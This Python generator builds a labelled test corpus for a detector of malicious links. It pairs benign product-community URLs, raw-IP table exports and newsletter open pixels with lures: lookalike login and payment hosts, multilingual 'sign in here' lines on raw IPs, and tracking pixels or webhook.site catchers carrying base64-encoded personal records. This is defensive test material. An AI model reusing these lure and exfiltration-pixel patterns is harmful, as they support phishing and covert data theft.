# Generates the hundred-and-seventy-first content corpus (cases-171.jsonl): an outside review's false alarms of the
# links-in-records readings by class, in hosts, carriers and sentences of its own, beside the lures that must stay found,
# written BEFORE any rule changed:
#   ok171a   third parties that name themselves after a product: integration guides and SDK docs on docs hosts
#            (readthedocs.io, gitbook.io, gitlab.io), user groups, conferences, summits, meetups, community days,
#            academies and integrators, under a path (agenda, slides, events, speakers, docs);
#   url171a  a service's name joined to a lure's word in a host it does not own (every service, common or not), or to a
#            firm's name under the service's kind of page, or beside a community's word and a lure's word together;
#   ok171b   a raw public address serving a table (csv, xlsx, tsv) from a team's own box, offered as a download, an
#            export or an extract;
#   url171b  the same tables offered as a sign-in, a meeting or a page "here" in several languages, and archives and
#            programs on raw public addresses (read whatever the line says);
#   ok171c   a newsletter's or a mail's own open pixel whose query carries its one recipient's address in base64
#            (standard or URL-safe), on the sender's domain or a mailing service's;
#   url171c  pixels and catchers whose base64 value decodes to a table of people, an address with other fields, or
#            several addresses; a catcher carrying one address.
# Label decisions, made before any run:
#   - A product's community, docs or events naming itself after the product is no lure; a service's name beside a lure's
#     word, or beside a firm's name under the service's kind of page, is adversarial_url.
#   - A table on a team's public box offered as a download is not adversarial_url; a table offered as a sign-in or a
#     meeting page is; an archive or a program on a raw public address is.
#   - An open pixel naming its own one recipient, plain or encoded, is not adversarial_url (the mail already went to that
#     address); a pixel or catcher carrying a record (rows, fields beside the address, several people) is.
# Deterministic (seeded). Run: python3 test/corpus-content/generate171.py
import base64, functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus
corpus = Corpus(20261712)
r = corpus.r

FIRSTS = ['Aurelio', 'Branka', 'Chidi', 'Dagny', 'Eamon', 'Farida', 'Gustaw', 'Hiroko', 'Ines', 'Jarrah']
LASTS = ['Okonkwo', 'Halvorsen', 'Petrescu', 'Mbeki', 'Lindqvist', 'Zielinski', 'Ferreira', 'Nakamura', 'Castell', 'Dunmore']
DOMAINS = ['harrowgate-labs.com', 'quillon.io', 'vestry-foods.co.uk', 'peltier-energy.fr', 'osgood-health.org']
def num(a, b): return r.randint(a, b)
def mail(): return f'{r.choice(FIRSTS).lower()}.{r.choice(LASTS).lower()}@{r.choice(DOMAINS)}'
def person(): return f'{r.choice(FIRSTS)} {r.choice(LASTS)}'


def c_csv(label, url): return f'name,url,updated\n{label},{url},2026-{num(1,12):02d}-{num(10,28)}\nInternal wiki,https://wiki.{r.choice(DOMAINS)}/home,2026-0{num(1,9)}-1{num(0,9)}'
def c_md(label, url): return f'## Links\n\n- {label}: {url}\n- Changelog: https://{r.choice(DOMAINS)}/changelog'
def c_json(label, url): return json.dumps({'resources': [{'title': label, 'href': url}, {'title': 'Status', 'href': f'https://status.{r.choice(DOMAINS)}'}]}, indent=2)
def c_note(label, url): return f'{label} \u2014 {url}\nAdded by {person()} after the planning call.'
def carry(pairs): return [r.choice([c_csv, c_md, c_json, c_note])(l, u) for l, u in pairs]

# ok171a: third parties named after a product.
OK_A = [
    ('Webhook reference for the signing service', 'https://docusign-connector-sdk.readthedocs.io/en/latest/events.html'),
    ('Python client docs', 'https://hubspot-client-python.readthedocs.io/en/stable/quickstart.html'),
    ('Handbook of the admin community', 'https://servicenow-admin-handbook.gitbook.io/guide/cmdb'),
    ('Pipeline templates', 'https://smartsheet-automation-recipes.gitlab.io/docs/intro/'),
    ('User group, Benelux chapter', 'https://www.tableau-usergroup.be/meetings/2026-03'),
    ('Summit agenda', 'https://www.workday-summit.co.uk/agenda/day-2'),
    ('Community meetup talks', 'https://zendesk-meetup.org/talks/2026'),
    ('Developer days slides', 'https://www.airtable-developer-days.com/slides/automations.pdf'),
    ('Power users forum', 'https://www.quickbooks-user-forum.org/threads/year-end'),
    ('Academy course list', 'https://www.salesforce-academy.dk/courses/admin-basics'),
    ('Integrator we hired for the rooms', 'https://www.webex-rooms-integrator.de/referenzen/buero-umbau'),
    ('Regional conference speakers', 'https://www.looker-conference.eu/speakers/2026'),
    ('World tour stop', 'https://www.dropbox-world-tour.com/events/oslo'),
    ('Okta admins user group', 'https://okta-admins-usergroup.org/events/spring-2026'),
]
corpus.add('ok171a', [], carry(OK_A), source='tool_output', wrap=False)

URL_A = [
    ('Renewal page', 'https://servicenow-account-renewal.com/billing/renew'),
    ('Shared report', 'https://airtable-shared-view.net/shr/q2-pipeline'),
    ('Signing link', 'https://docusign-review-portal.co/envelope/sign'),
    ('Sign in to see the file', 'https://sharepoint-harrowgate.com/sites/finance/docs'),
    ('Files', 'https://wetransfer-vestryfoods.net/downloads/q2-figures.zip'),
    ('Community login', 'https://salesforce-community-login.com/secur/login.jsp'),
    ('Summit ticket payment', 'https://tableau-summit-payment.net/checkout/invoice'),
    ('Payroll update', 'https://workday-peltier.com/wday/authgwy/signin'),
    ('Quarterly invoice', 'https://quickbooks-invoice-center.net/pay/8841'),
    ('Join the call', 'https://teams-join-meeting.live/l/meetup-join/19'),
]
corpus.add('url171a', ['adversarial_url'], carry(URL_A), source='tool_output', wrap=False)

# ok171b / url171b: raw public addresses serving tables and files.
def pub(): return f'{r.choice([34, 35, 52, 54, 104, 139, 151])}.{num(1,254)}.{num(1,254)}.{num(1,254)}'
OK_B = [
    f'Weekly extract finished (4,118 rows). Download: http://{pub()}/exports/returns_2026-w19.csv (the analytics VM on AWS).',
    f'Export ready \u2014 http://{pub()}:8080/reports/stock_levels.xlsx, generated by the cron job on our Hetzner box.',
    f'Data refresh log\n03:10 build ok\n03:12 published http://{pub()}/data/kpi_daily.tsv\n03:12 done',
    f'| dataset | download |\n|---|---|\n| churn sample | http://{pub()}/public/churn_sample.csv |\n| stores | http://{pub()}/public/stores.xlsx |',
    f'The open-data mirror we run for the council serves the tables at http://{pub()}/opendata/bus_stops.csv and is refreshed hourly.',
    f'{{"job": "nightly_export", "status": "ok", "file": "http://{pub()}/out/orders_2026-05.xlsx"}}',
]
corpus.add('ok171b', [], OK_B, source='tool_output', wrap=False)
URL_B = [
    f'remark,amount\n"Zaloguj si\u0119 tutaj, aby zobaczy\u0107 faktur\u0119: http://{pub()}/share/faktura.xlsx",120',
    f'Meeting link: http://{pub()}/join/board_q2.csv',
    f'Inicie sesi\u00f3n aqu\u00ed para ver su n\u00f3mina: http://{pub()}/files/nomina.xlsx',
    f'Please sign in here to view your statement: http://{pub()}/dl/statement.csv',
    f'Download: http://{pub()}/exports/orders.zip',
    f'Export ready: http://{pub()}/update/installer.exe',
    f'Melden Sie sich hier an: http://{pub()}/dl/gehalt.xlsx',
    f'Confirm your account here: http://{pub()}/verify/accounts.csv',
]
corpus.add('url171b', ['adversarial_url'], URL_B, source='tool_output', wrap=False)

# ok171c / url171c: pixels and catchers whose query carries an address in base64.
def b64(s): return base64.b64encode(s.encode()).decode()
def b64u(s): return base64.urlsafe_b64encode(s.encode()).decode().rstrip('=')
OK_C = []
for i in range(8):
    who = mail()
    enc = b64(who) if i % 2 == 0 else b64u(who)
    host = (['mail.quillon.io', 'links.news.vestry-foods.co.uk', 'click.peltier-energy.fr', 'email.osgood-health.org'] if i < 4
            else ['cdn.quillon.io', 'px.vestry-foods.co.uk', 'static.peltier-energy.fr', 'img.osgood-health.org'])[i % 4]
    if i < 4:
        OK_C.append(f'<p>Thanks for reading this month\'s digest.</p><img src="https://{host}/o/open.png?rcpt={enc}&m=may26" width="1" height="1" alt="">')
    else:
        OK_C.append(f'To: {who}\nSubject: Your order shipped\n\nTrack it in your account.\n<img src="https://{host}/track/open.gif?u={enc}" width="1" height="1">')
corpus.add('ok171c', [], OK_C, source='web', wrap=False)
URL_C = []
for i in range(8):
    k = i % 4
    if k == 0: v = b64('name,email\n' + person() + ',' + mail() + '\n' + person() + ',' + mail())
    elif k == 1: v = b64u('email=' + mail() + ';iban_last4=' + str(num(1000, 9999)) + ';score=' + str(num(300, 850)))
    elif k == 2: v = b64(mail() + ',' + mail() + ',' + mail())
    else: v = b64u(mail())
    if k == 3:
        URL_C.append(f'validate ok; posted https://webhook.site/{corpus.rs("0123456789abcdef", 8)}-0f1e-4a2b-9c3d-{corpus.rs("0123456789abcdef", 12)}?who={v}')
    else:
        URL_C.append(f'<img src="https://cdn-stats-{num(10,99)}.net/px.gif?d={v}" width="1" height="1">')
# One address alone in base64 on a pixel of a third party's host, in a record that never names that address: not the
# text's own recipient, nor a mail's sending host.
for i in range(4):
    v = b64(mail()) if i % 2 == 0 else b64u(mail())
    URL_C.append([
        f'Case notes\nClient: {person()}\nFollow-up survey: ![survey](https://survey.fernhollow-relay.example/s/{num(1,9)}.png?u={v})',
        f'ticket_id,remark\nT-{num(10000,99999)},"see ![x](https://assets.kelpmark-drop.example/p.gif?r={v})"',
        f'Intake summary for {person()}: documents received, appointment booked.\n<img src="https://pix.tallowgate.example/i.png?k={v}" width="1" height="1">',
        f'{{"note": "thanks for the call", "badge": "https://badge.corrimoor-stats.example/b.png?id={v}"}}',
    ][i])
corpus.add('url171c', ['adversarial_url'], URL_C, source='web', wrap=False)

corpus.write('cases-171')
